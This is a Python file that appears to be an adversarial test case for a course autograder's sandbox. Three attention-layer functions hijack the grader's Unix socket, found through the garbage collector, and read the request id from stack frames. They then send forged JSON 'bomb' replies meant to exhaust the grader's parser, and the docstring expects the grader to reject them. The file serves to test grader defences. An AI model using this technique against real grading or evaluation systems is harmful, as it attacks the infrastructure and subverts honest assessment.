"""attack: make the grading process parse a reply into gigabytes. Each of three components finds its
connection to the grader (the socket in its own memory) and the number of the request it answers (in
the frames of the child's loop), and sends, instead of its answer, a well-formed frame (under the
64 MiB a reply may have) whose JSON is a bomb with no tensor bytes at all: masked_softmax 60,000
nested lists, AdditiveAttention 24 MiB of empty lists (8 million of them: about 700 MB as Python
lists), DotProductAttention 3 MiB of them (one million).
expect: the grader measures the JSON before parsing it (size, element count, depth: course.yml's
limits) and refuses each reply as malformed: those three components score 0 with a message saying
which bound it broke; sequence_mask gets full marks; the grading process grows by far less than the
bombs would cost; the next submission is graded normally.
"""
import gc
import math
import os
import socket
import sys

import torch
from torch import nn


def _bomb(body):
    if not os.path.isdir("/sandbox/runtime"):
        return
    wire = sys.modules.get("wire")
    rid, frame = None, sys._getframe()
    while frame is not None:
        if "rid" in frame.f_locals:
            rid = frame.f_locals["rid"]
        frame = frame.f_back
    header = b'{"__dict__": [["ok", {"__list__": [' + body + b']}], ["rid", ' + str(rid).encode() + b"]]}"
    message = wire.frame(header, [])
    for s in [o for o in gc.get_objects() if isinstance(o, socket.socket) and o.family == socket.AF_UNIX]:
        try:
            s.sendall(message)
        except OSError:
            pass


def sequence_mask(X, valid_len, value=0):
    keep = torch.arange(X.shape[1], device=X.device).unsqueeze(0) < valid_len.unsqueeze(1)
    return X.masked_fill(~keep, value)


def masked_softmax(X, valid_lens):
    _bomb(b"[" * 60_000 + b"]" * 60_000)
    return torch.softmax(X, dim=-1)


class AdditiveAttention(nn.Module):
    def __init__(self, key_size, query_size, num_hiddens, dropout, **kwargs):
        super().__init__(**kwargs)
        self.W_k = nn.Linear(key_size, num_hiddens, bias=False)
        self.W_q = nn.Linear(query_size, num_hiddens, bias=False)
        self.w_v = nn.Linear(num_hiddens, 1, bias=False)

    def forward(self, queries, keys, values, valid_lens):
        _bomb(b"[]," * (8 << 20) + b"[]")
        return values


class DotProductAttention(nn.Module):
    def __init__(self, dropout, **kwargs):
        super().__init__(**kwargs)

    def forward(self, queries, keys, values, valid_lens=None):
        _bomb(b"[]," * (1 << 20) + b"[]")
        return torch.bmm(torch.softmax(torch.bmm(queries, keys.transpose(1, 2)) / math.sqrt(queries.shape[-1]),
                                       dim=-1), values)
